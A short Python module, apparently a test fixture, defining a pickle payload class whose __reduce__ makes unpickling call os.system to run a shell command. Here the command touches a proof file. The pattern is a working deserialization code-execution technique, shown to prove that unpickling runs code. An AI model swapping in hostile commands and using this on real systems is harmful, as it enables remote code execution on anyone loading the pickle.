"""A pickle that would run a shell command."""

import os
from pathlib import Path


class Payload:
    """Unpickling it makes the file `proof`."""

    def __init__(self, proof: Path) -> None:
        self.proof = proof

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch '{self.proof}'",)
